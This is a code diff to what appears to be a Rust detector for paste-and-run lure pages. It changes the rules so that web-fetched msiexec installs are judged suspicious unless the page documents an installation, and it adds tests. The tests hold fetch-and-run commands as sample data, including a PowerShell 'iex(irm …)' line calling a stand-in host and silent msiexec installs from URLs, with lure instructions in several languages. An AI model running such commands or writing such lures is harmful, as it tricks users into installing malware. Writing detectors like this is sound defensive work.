@@ -214,6 +214,13 @@ impl Command {
             && self.https_sites.iter().all(|s| s == page_site)
     }
 
+    /// Installs a package fetched from elsewhere (`msiexec /i https://…`): a program the person
+    /// is never told about unless the page says what it installs. Showing the command names
+    /// nothing, so only install words (`install_docs`) excuse it, never a reference example.
+    fn installs_package(&self) -> bool {
+        self.shapes.contains(&Shape::MsiexecUrl)
+    }
+
     /// A bare `mshta` of a local `.hta` runs an application already installed: fetched from
     /// nowhere, like a local `cmd /c`.
     pub fn windows_payload(&self) -> bool {
@@ -256,7 +263,6 @@ impl Command {
                         | Shape::Mshta
                         | Shape::Cmd
                         | Shape::Rundll32
-                        | Shape::MsiexecUrl
                         | Shape::Certutil
                         | Shape::Bitsadmin
                 )
@@ -1038,11 +1044,19 @@ impl PageHits {
         command.flat.len() >= 16 && has(&self.flat, &command.flat)
     }
 
+    /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
+    /// line switches"): a reference page explains the tool; a lure only shows its command.
+    fn explains_msiexec(&self, command: &Command) -> bool {
+        self.flat.matches("msiexec").count() > self.flat.matches(command.flat.as_str()).count()
+    }
+
     /// Install documentation, not a lure: the page documents an installation (or shows the
     /// command it copies) and dresses it as nothing else: no verification, no error, repair,
     /// missing update or file to open, no infection or system screen.
     fn documents_install(&self, command: &Command) -> bool {
-        let framed = self.weight(Cat::InstallDocs) >= 1.0 || self.shows(command);
+        let framed = self.weight(Cat::InstallDocs) >= 1.0
+            || self.shows(command)
+                && (!command.installs_package() || self.explains_msiexec(command));
         // "Verification steps" alone is how docs say "check the download"; with "captcha" or
         // a human check it is the lure's.
         let verify = self.weight(Cat::VerifyHuman) >= 1.0;
@@ -1440,9 +1454,11 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // domain shows and fetches from there too: a download run from the page's site is help only
     // with documentation around it, or a problem asked about, not an error claimed ("Error:
     // this document could not be displayed").
+    let install_words = page.weight(Cat::InstallDocs) >= 1.0;
     let own_fetch = command.fetches_from_site(&page.site)
-        && (page.weight(Cat::InstallDocs) >= 1.0 || page.story().all(|h| h.cat != Cat::Error));
+        && (install_words || page.story().all(|h| h.cat != Cat::Error));
     let help = command.install_like(&page.site)
+        && (install_words || !command.installs_package())
         && page.shows(&command)
         && (!command.remote || own_fetch)
         && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
@@ -2816,6 +2832,82 @@ mod tests {
             get,
             &format!("Press Ctrl + Alt + T to open a terminal, paste and press Enter:\n{get}")
         ));
+    }
+
+    #[test]
+    fn a_package_installed_from_the_web_needs_install_words() {
+        // msiexec installs a program: a page that only shows it under the Run-box steps names
+        // nothing it installs (fifteenth session: each was a reference or what-you-see example).
+        for (clip, before) in [
+            (
+                "msiexec /i https://cdn-pkg.example/x.msi /qn",
+                "Win+R, Ctrl+V, Enter:",
+            ),
+            (
+                "msiexec /package https://cdn-pkg.example/update.msi /quiet",
+                "Press Win + R, paste with Ctrl + V and press Enter:",
+            ),
+            (
+                "msiexec /q /i https://dl.cdn-pkg.example/a.msi",
+                "1. Win + R 2. Ctrl + V 3. Enter",
+            ),
+        ] {
+            let text = format!("{before}\n{clip}\nCopy");
+            assert!(judged(clip, &text), "{clip}");
+            // On the page's own site too.
+            let own = assess(
+                clip,
+                &PageHits::new([text.as_str()]).on("https://cdn-pkg.example/"),
+            );
+            assert!(own.is_some(), "{clip}");
+        }
+        // Install pages say what they install, in their language.
+        let clip = "msiexec /i https://downloads.agent-co.test/agent.msi /qn";
+        for words in [
+            "Installing the agent on Windows: press Win + R, paste the following command and \
+             press Enter:",
+            "Installation unter Windows: drücken Sie Win + R, fügen Sie den Befehl ein, Enter:",
+            "エージェントのインストール: Win + R を押し、貼り付けて Enter を押します。",
+            "msiexec switches: /i installs a package, /qn hides the interface. Win + R, then:",
+            // A reference page names the tool it explains, beside the example it shows.
+            "msiexec command line switches. Open Run with Win + R. Examples:",
+        ] {
+            let text = format!("{words}\n{clip}\nCopy");
+            assert!(!judged(clip, &text), "{words}");
+            let own = assess(
+                clip,
+                &PageHits::new([text.as_str()]).on("https://agent-co.test/"),
+            );
+            assert!(own.is_none(), "{words}");
+        }
+    }
+
+    #[test]
+    fn filefix_through_the_file_picker_and_explorer_shortcuts() {
+        // The upload button's file picker has File Explorer's address bar; Win+E opens
+        // Explorer and Alt+D selects its address bar (fifteenth session: each missed before).
+        let ps = "powershell -c \"iex(irm https://files-cdn.example/open.ps1)\"";
+        for steps in [
+            "Click \"Choose file\", paste the copied path into the address bar at the top of the \
+             window (Ctrl + V) and press Enter.",
+            "Klicken Sie auf „Datei auswählen“, fügen Sie den Pfad in die Adressleiste des \
+             Fensters ein (Strg + V) und drücken Sie Enter.",
+            "Cliquez sur « Choisir un fichier », collez le chemin dans la barre d'adresse de la \
+             fenêtre (Ctrl + V) et appuyez sur Entrée.",
+            "Haga clic en «Elegir archivo», pegue la ruta en la barra de direcciones (Ctrl + V) y \
+             pulse Intro.",
+            "Press Win + E, then Ctrl + L, then Ctrl + V and Enter.",
+            "Open File Explorer (Win + E), press Alt + D, paste the path and press Enter.",
+        ] {
+            assert!(judged(ps, &format!("HRPolicy.docx\n{steps}")), "{steps}");
+        }
+        // One half alone is no place: an upload form's button, a browser's Alt+D.
+        for text in [
+            "Click Choose file to attach your CV, then press Enter to send the form.",
+            "Press Alt + D to jump to the search field, then press Enter.",
+        ] {
+            assert!(!judged(ps, text), "{text}");
+        }
     }
 
     #[test]
